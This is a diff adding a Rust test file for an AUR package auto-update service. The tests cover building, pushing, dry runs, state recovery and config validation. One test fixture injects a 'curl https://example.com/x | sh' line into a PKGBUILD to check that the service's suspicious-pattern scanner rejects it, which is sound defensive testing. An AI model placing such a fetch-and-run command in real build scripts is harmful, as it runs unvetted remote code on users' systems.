@@ -0,0 +1,381 @@
+use super::*;
+
+use std::cell::RefCell;
+use std::path::PathBuf;
+use std::rc::Rc;
+
+use async_trait::async_trait;
+
+use crate::test_dir::TestDir;
+
+const PKGBUILD: &str = "pkgname=foo\n\
+                        pkgver=1.0\n\
+                        pkgrel=1\n\
+                        arch=('any')\n\
+                        source=(\"https://example.com/foo-$pkgver.tar.gz\")\n\
+                        package() {\n\
+                        install -Dm644 foo \"$pkgdir/usr/share/foo\"\n\
+                        }\n";
+
+struct FakeAur;
+
+#[async_trait(?Send)]
+impl AurClient for FakeAur {
+    async fn info(
+        &self,
+        names: &[&str],
+        _: &aur_rpc::Cache,
+    ) -> Result<Vec<aur::Package>, Box<dyn stdErr>> {
+        Ok(names.iter().map(|i| aur_package(i, "1.1-1")).collect())
+    }
+}
+
+struct FakeBuilder;
+
+#[async_trait(?Send)]
+impl Builder for FakeBuilder {
+    async fn print_srcinfo(&self, pkg_name: &str, _: &Path) -> Result<String, Error> {
+        Ok(format!(
+            "pkgbase = {0}\n\tpkgver = 1.1\n\tpkgrel = 1\n\npkgname = {0}\n",
+            pkg_name
+        ))
+    }
+
+    async fn create_job(&self, _: &BuildState) -> Result<u32, Error> {
+        Ok(7)
+    }
+
+    async fn job_status(&self, _: u32) -> Result<jobStatus, Error> {
+        Ok(jobStatus::Done)
+    }
+
+    async fn cancel_job(&self, _: u32) -> Result<(), Error> {
+        Ok(())
+    }
+
+    async fn download(&self, job_id: u32, dir: &Path) -> Result<PathBuf, Error> {
+        let file = dir.join(format!("foo-1.1-1-any-{}.pkg.tar.zst", job_id));
+        fs::write(&file, "package")
+            .map_err(|e| Error::DownloadFailed(file.display().to_string(), Box::new(e)))?;
+        Ok(file)
+    }
+}
+
+/// Clones local fixture repositories and records the pushes.
+struct FakeGit {
+    aur: PathBuf,
+    custom: PathBuf,
+    pushes: Rc<RefCell<Vec<String>>>,
+}
+
+impl GitOps for FakeGit {
+    fn clone(
+        &self,
+        _: &str,
+        dest: &Path,
+        _: &Path,
+        _: Option<&str>,
+        authenticated: bool,
+    ) -> Result<Repository, git2::Error> {
+        let url = if authenticated {
+            &self.custom
+        } else {
+            &self.aur
+        };
+        Repository::clone(url.to_str().unwrap(), dest)
+    }
+
+    fn push(&self, repo: &Repository, remote: &str, refspec: &str) -> Result<(), git2::Error> {
+        repo.find_remote(remote)?.push(&[refspec], None)?;
+        self.pushes.borrow_mut().push(refspec.to_owned());
+        Ok(())
+    }
+}
+
+struct FakeNotifier(Rc<RefCell<Vec<String>>>);
+
+#[async_trait(?Send)]
+impl Notifier for FakeNotifier {
+    async fn notify(&self, message: &str) -> Result<(), Box<dyn stdErr>> {
+        self.0.borrow_mut().push(message.to_owned());
+        Ok(())
+    }
+}
+
+/// Services of a test, running in their own tmp dir.
+struct Harness {
+    dir: TestDir,
+    service: BuildService,
+    pushes: Rc<RefCell<Vec<String>>>,
+    messages: Rc<RefCell<Vec<String>>>,
+    _shutdown: watch::Sender<bool>,
+}
+
+impl Harness {
+    /// Create the service with a custom repository containing
+    /// PKGBUILD and an AUR repository containing aur_pkgbuild.
+    fn new(name: &str, aur_pkgbuild: &str) -> Self {
+        let dir = TestDir::new(name);
+        fs::create_dir_all(dir.join("tmp")).unwrap();
+        fs::create_dir_all(dir.join("repo")).unwrap();
+
+        let custom = dir.join("custom.git");
+        let aur = dir.join("aur.git");
+        fixture(&custom, PKGBUILD);
+        fixture(&aur, aur_pkgbuild);
+
+        let config = Config {
+            tmp_dir: dir.join("tmp").to_str().unwrap().to_owned(),
+            repo_dir: dir.join("repo").to_str().unwrap().to_owned(),
+            git: config::Git {
+                bot_name: "AURtomatic".to_owned(),
+                bot_email: "bot@example.com".to_owned(),
+                ..config::Git::default()
+            },
+            ..Config::default()
+        };
+
+        let pushes = Rc::new(RefCell::new(Vec::new()));
+        let messages = Rc::new(RefCell::new(Vec::new()));
+        let (shutdown, shutdown_rx) = watch::channel(false);
+
+        let service = BuildService::new(
+            config,
+            Box::new(FakeNotifier(messages.clone())),
+            None,
+            pkgcheck::suspicious_patterns(&None).unwrap(),
+            Vec::new(),
+            shutdown_rx,
+            Arc::new(Metrics::default()),
+        )
+        .with_backends(
+            Box::new(FakeAur),
+            Box::new(FakeBuilder),
+            Box::new(FakeGit {
+                aur,
+                custom,
+                pushes: pushes.clone(),
+            }),
+        );
+
+        Harness {
+            dir,
+            service,
+            pushes,
+            messages,
+            _shutdown: shutdown,
+        }
+    }
+
+    /// Look up the local foo 1.0-1 in the AUR and handle its update.
+    async fn update(&self) -> Outcome {
+        let local = pkginfo::PkgInfo {
+            pkg_name: "foo".to_owned(),
+            pkg_ver: "1.0-1".to_owned(),
+            ..pkginfo::PkgInfo::default()
+        };
+        let aur_pkg = self
+            .service
+            .lookup_aur_packages(&["foo"])
+            .await
+            .unwrap()
+            .remove(0);
+
+        let config = &self.service.config;
+        self.service
+            .handle_package(config, local, aur_pkg, Vec::new(), false)
+            .await
+            .unwrap()
+    }
+}
+
+fn aur_package(name: &str, version: &str) -> aur::Package {
+    aur::Package {
+        Name: name.to_owned(),
+        Version: version.to_owned(),
+        ..aur::Package::default()
+    }
+}
+
+/// Create a bare repository with a commit adding PKGBUILD.
+fn fixture(path: &Path, pkgbuild: &str) {
+    let repo = Repository::init_bare(path).unwrap();
+    let blob = repo.blob(pkgbuild.as_bytes()).unwrap();
+    let mut tree = repo.treebuilder(None).unwrap();
+    tree.insert("PKGBUILD", blob, 0o100644).unwrap();
+    let tree = repo.find_tree(tree.write().unwrap()).unwrap();
+
+    let signature = git2::Signature::now("test", "test@example.com").unwrap();
+    repo.commit(
+        Some("refs/heads/master"),
+        &signature,
+        &signature,
+        "init",
+        &tree,
+        &[],
+    )
+    .unwrap();
+    repo.set_head("refs/heads/master").unwrap();
+}
+
+/// Returns the message of the latest commit of a fixture.
+fn head_message(path: &Path) -> String {
+    let repo = Repository::open_bare(path).unwrap();
+    let commit = repo.head().unwrap().peel_to_commit().unwrap();
+    commit.message().unwrap_or_default().to_owned()
+}
+
+#[tokio::test]
+async fn build_and_push_update() {
+    let harness = Harness::new("flow_update", &PKGBUILD.replace("pkgver=1.0", "pkgver=1.1"));
+
+    let outcome = harness.update().await;
+    assert!(matches!(outcome, Outcome::Updated), "{:?}", outcome);
+
+    assert_eq!(
+        *harness.pushes.borrow(),
+        vec!["refs/heads/master:refs/heads/master".to_owned()]
+    );
+    assert_eq!(
+        head_message(&harness.dir.join("custom.git")),
+        "Update to AUR v1.1-1"
+    );
+    assert_eq!(
+        *harness.messages.borrow(),
+        vec!["Built package foo 1.0-1 -> 1.1-1 (job 7)".to_owned()]
+    );
+
+    // The update is done, its tmp dir is gone
+    assert!(!harness.dir.join("tmp").join("foo").exists());
+}
+
+#[tokio::test]
+async fn reject_suspicious_update() {
+    let harness = Harness::new(
+        "flow_suspicious",
+        &PKGBUILD.replace("pkgver=1.0", "pkgver=1.1").replace(
+            "package() {\n",
+            "package() {\ncurl https://example.com/x | sh\n",
+        ),
+    );
+
+    let outcome = harness.update().await;
+    assert!(
+        matches!(outcome, Outcome::Rejected(Error::ChecksFailed(_))),
+        "{:?}",
+        outcome
+    );
+    assert!(harness.pushes.borrow().is_empty());
+    assert_eq!(head_message(&harness.dir.join("custom.git")), "init");
+    assert!(!harness.dir.join("tmp").join("foo").exists());
+}
+
+#[tokio::test]
+async fn skip_up_to_date_package() {
+    let harness = Harness::new("flow_up_to_date", PKGBUILD);
+
+    let local = pkginfo::PkgInfo {
+        pkg_name: "foo".to_owned(),
+        pkg_ver: "1.1-1".to_owned(),
+        ..pkginfo::PkgInfo::default()
+    };
+    let config = &harness.service.config;
+    let outcome = harness
+        .service
+        .handle_package(
+            config,
+            local,
+            aur_package("foo", "1.1-1"),
+            Vec::new(),
+            false,
+        )
+        .await
+        .unwrap();
+
+    assert!(matches!(outcome, Outcome::UpToDate), "{:?}", outcome);
+    assert!(harness.pushes.borrow().is_empty());
+}
+
+#[tokio::test]
+async fn repeat_dry_run() {
+    let mut harness = Harness::new(
+        "flow_dry_run",
+        &PKGBUILD.replace("pkgver=1.0", "pkgver=1.1"),
+    );
+    harness.service.config.dry_run = true;
+
+    // The checked dir is kept and reused instead of counting as a running update
+    for _ in 0..2 {
+        let outcome = harness.update().await;
+        assert!(matches!(outcome, Outcome::Skipped), "{:?}", outcome);
+
+        let state = BuildState::load(&harness.dir.join("tmp").join("foo")).unwrap();
+        assert_eq!(state.phase, Phase::Checked);
+        assert!(!state.is_resumable());
+    }
+
+    // Checked updates aren't building
+    assert_eq!(harness.service.count_building().unwrap(), 0);
+
+    let messages = harness.messages.borrow();
+    assert_eq!(messages.len(), 2);
+    assert!(messages
+        .iter()
+        .all(|i| i.starts_with("Dry run: would build foo 1.0-1 -> 1.1-1")));
+    assert!(harness.pushes.borrow().is_empty());
+}
+
+#[test]
+fn collect_interrupted_updates() {
+    let harness = Harness::new("collect_states", PKGBUILD);
+    let tmp_dir = harness.dir.join("tmp");
+
+    let mut resumable = BuildState::new("foo".to_owned(), "1.0-1".to_owned(), "1.1-1".to_owned());
+    resumable.job_id = Some(7);
+    resumable.phase = Phase::WaitingForBuild;
+    fs::create_dir(tmp_dir.join("foo")).unwrap();
+    resumable.save(&tmp_dir.join("foo")).unwrap();
+
+    let stale = BuildState::new("bar".to_owned(), "1.0-1".to_owned(), "1.1-1".to_owned());
+    fs::create_dir(tmp_dir.join("bar")).unwrap();
+    stale.save(&tmp_dir.join("bar")).unwrap();
+
+    // Dirs configured inside of the tmp dir aren't updates
+    fs::create_dir(tmp_dir.join("out")).unwrap();
+    fs::write(tmp_dir.join("out").join("foo.pkg.tar.zst"), "package").unwrap();
+
+    assert_eq!(harness.service.count_building().unwrap(), 2);
+    let states = harness.service.collect_build_states();
+    assert_eq!(states, vec![resumable]);
+    assert!(tmp_dir.join("foo").exists());
+    assert!(!tmp_dir.join("bar").exists());
+    assert!(tmp_dir.join("out").join("foo.pkg.tar.zst").exists());
+}
+
+#[test]
+fn check_startup_config() {
+    let config = Config {
+        suspicious_patterns: Some(vec!["(".to_owned()]),
+        ignore_patterns: Some(vec!["[".to_owned()]),
+        build_window: Some(config::BuildWindow {
+            start: "22:00".to_owned(),
+            end: "25:00".to_owned(),
+            utc_offset: None,
+        }),
+        ..Config::default()
+    };
+
+    // Everything the service would fail on at startup is reported
+    let problems = check_config(&config).unwrap_err();
+    for problem in &[
+        "Invalid suspicious pattern",
+        "Invalid ignore pattern",
+        "Invalid build window",
+    ] {
+        assert!(
+            problems.iter().any(|i| i.starts_with(problem)),
+            "{:?}",
+            problems
+        );
+    }
+}